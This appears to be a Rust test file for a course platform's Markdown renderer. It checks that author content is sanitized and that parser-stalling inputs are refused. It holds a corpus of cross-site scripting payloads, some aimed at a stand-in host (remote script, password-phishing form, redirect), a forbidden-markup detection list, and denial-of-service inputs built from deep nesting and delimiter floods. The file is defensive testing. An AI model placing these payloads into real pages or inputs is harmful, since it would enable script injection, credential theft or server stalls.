//! A corpus of hostile Markdown: whatever an author (or a compromised account) writes, the HTML
//! readers get is inert.

use std::collections::BTreeSet;

use super::markdown::{AssetLinks, render_block, render_inline};

const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"images/ok.png\" onload=\"alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
    "<a href=\"&#106;avascript:alert(1)\">entity-encoded</a>",
    "<a href=\"java\tscript:alert(1)\">tab</a>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    "![tracker](https://evil.example/pixel.gif)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
    "<textarea>x</textarea><select><option>a</option></select>",
    "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<div onclick=\"alert(1)\" onmouseover=\"alert(1)\">hover</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=\"https://ok.example\" target=\"_blank\" onfocus=alert(1) autofocus>x</a>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<!--<script>alert(1)</script>-->",
    "> [!WARNING]\n> <script>alert(1)</script>",
    "- [x] <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "Footnote[^x]\n\n[^x]: <a href=\"javascript:alert(1)\">x</a>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<a href=\"//evil.example\">protocol-relative</a>",
    "[x](//evil.example/path)",
    "<aside class=\"callout\" role=\"alert\" onclick=\"x()\">spoof</aside>",
    "<video src=x onerror=alert(1)></video><audio src=x>",
    "<object type=\"text/html\" data=\"data:text/html,<script>alert(1)</script>\"></object>",
];

/// Markup that must never appear in rendered author content.
const FORBIDDEN: &[&str] = &[
    "<script",
    "</script",
    "javascript:",
    "vbscript:",
    "data:",
    "<iframe",
    "<form",
    "<input",
    "<button",
    "<textarea",
    "<select",
    "<object",
    "<embed",
    "<svg",
    "<math",
    "<style",
    "<link",
    "<meta",
    "<base",
    "style=",
    "srcdoc",
    "formaction",
    " on",
    "evil.example",
    "<video",
    "<audio",
    "role=\"alert\"",
];

fn assert_inert(html: &str, case: &str) {
    let lowered = html.to_ascii_lowercase();
    for needle in FORBIDDEN {
        // " on" catches event handlers (" onerror=", " onload=") but also harmless text; only
        // flag it inside a tag.
        if *needle == " on" {
            let in_tag = lowered.split('<').skip(1).any(|tag| {
                let tag = tag.split('>').next().unwrap_or_default();
                tag.split_whitespace()
                    .skip(1)
                    .any(|attribute| attribute.starts_with("on"))
            });
            assert!(!in_tag, "event handler survived in {case:?}: {html}");
            continue;
        }
        // Escaped text (&lt;script&gt;) is fine; only real markup and live URLs count.
        assert!(
            !lowered.contains(needle),
            "{needle:?} survived in {case:?}: {html}"
        );
    }
}

fn links() -> AssetLinks {
    AssetLinks {
        base: "/course-assets/h".to_owned(),
        paths: BTreeSet::from(["images/ok.png".to_owned()]),
    }
}

#[test]
fn every_hostile_input_renders_inert() {
    for case in CORPUS {
        assert_inert(&render_block(case, &links()), case);
        assert_inert(&render_inline(case, &links()), case);
    }
}

#[test]
fn the_safe_parts_of_hostile_input_survive() {
    let html = render_block(
        "<img src=\"images/ok.png\" onload=\"alert(1)\" alt=\"fine\">",
        &links(),
    );
    assert!(
        html.contains("src=\"/course-assets/h/images/ok.png\""),
        "{html}"
    );
    let html = render_block(
        "<a href=\"https://ok.example\" onfocus=alert(1)>x</a>",
        &links(),
    );
    assert!(html.contains("href=\"https://ok.example\""), "{html}");
    let code = render_block("`<script>alert(1)</script>`", &links());
    assert!(
        code.contains("&lt;script&gt;"),
        "code is shown as text: {code}"
    );
}

/// Inputs known to make CommonMark parsers slow (deep nesting, delimiter floods, link-bracket
/// runs, reference and entity floods, huge tables). Each is refused by the limits with a file
/// and line, or renders well inside the time budget.
fn slow_cases() -> Vec<(&'static str, String)> {
    let wide_table = format!("{}|\n{}|\n", "| a ".repeat(500), "|---".repeat(500));
    let long_table: String = std::iter::once("| a | b |\n|---|---|\n".to_owned())
        .chain((0..20_000).map(|i| format!("| {i} | x |\n")))
        .collect();
    vec![
        ("20,000 nested block quotes", ">".repeat(20_000) + " deep"),
        ("20,000 nested list markers", "- ".repeat(20_000) + "deep"),
        (
            "20,000 indented list levels",
            (0..2_000)
                .map(|i| format!("{}- x\n", "    ".repeat(i)))
                .collect(),
        ),
        ("40,000 link openers", "[ (](".repeat(40_000)),
        (
            "nested brackets",
            "[[".repeat(10_000) + &"]]".repeat(10_000),
        ),
        ("emphasis runs", "*a**".repeat(30_000)),
        ("underscore runs", "_a__".repeat(30_000)),
        (
            "nested emphasis",
            "*_".repeat(10_000) + "x" + &"_*".repeat(10_000),
        ),
        (
            "backtick ladder",
            (1..300).map(|n| "`".repeat(n) + " x ").collect(),
        ),
        ("angle brackets", "<a".repeat(30_000)),
        ("html comment openers", "<!--".repeat(20_000)),
        ("entity flood", "&amp;".repeat(100_000)),
        ("bare ampersands", "&".repeat(500_000)),
        ("wide table", wide_table),
        ("long table", long_table),
        (
            "reference flood",
            format!("[r]: /x\n\n{}", "[r]".repeat(50_000)),
        ),
        ("setext headings in lists", "- a\n  ===\n".repeat(20_000)),
        ("strikethrough runs", "~~a".repeat(40_000)),
    ]
}

#[test]
fn pathological_inputs_are_refused_by_the_limits_or_render_within_budget() {
    use std::time::Instant;
    let budget = std::time::Duration::from_secs(10);
    for (name, text) in slow_cases() {
        let started = Instant::now();
        let problems = super::limits::check("01-lesson.md", &text);
        if problems.is_empty() {
            let html = render_block(&text, &links());
            assert_inert(&html, name);
        } else {
            let first = problems[0].to_string();
            assert!(first.starts_with("01-lesson.md"), "{name}: {first}");
        }
        assert!(
            started.elapsed() < budget,
            "{name} took {:?}, past the budget",
            started.elapsed()
        );
    }
}

#[test]
fn the_lesson_that_stalled_the_server_is_refused_with_its_file_and_line() {
    // The reported upload: 430 KB of nested quotes, list markers and link openers.
    let lesson = format!(
        "# Nested\n\n{}x\n\n{}x\n\n{}\n",
        ">".repeat(20_000),
        "- ".repeat(20_000),
        "[ (](".repeat(40_000)
    );
    assert!(lesson.len() > 240_000);
    let source = super::CourseSource::new(vec![
        (
            "course.toml".to_owned(),
            b"id = \"nested\"\ntitle = \"Nested\"\nsummary = \"x\"\nkind = \"course\"\nlanguage = \"en\"\nestimated_minutes = 5\npass_mark = 80\nrecurrence = \"12 months\"\ndue_within = \"30 days\"\n\n[audience]\neveryone = true\n\n[version]\nnotes = \"x\"\nmaterial = false\n".to_vec(),
        ),
        ("01-nested.md".to_owned(), lesson.into_bytes()),
        (
            "quiz.md".to_owned(),
            b"## Q?\n\n- [x] Yes\n- [ ] No\n\n> Yes.\n".to_vec(),
        ),
    ])
    .unwrap();
    let problems = super::parse_course(source).unwrap_err();
    let lines: Vec<String> = problems.iter().map(ToString::to_string).collect();
    assert!(
        lines
            .iter()
            .any(|l| l.starts_with("01-nested.md:3: block quotes and lists nested")),
        "{lines:#?}"
    );
}
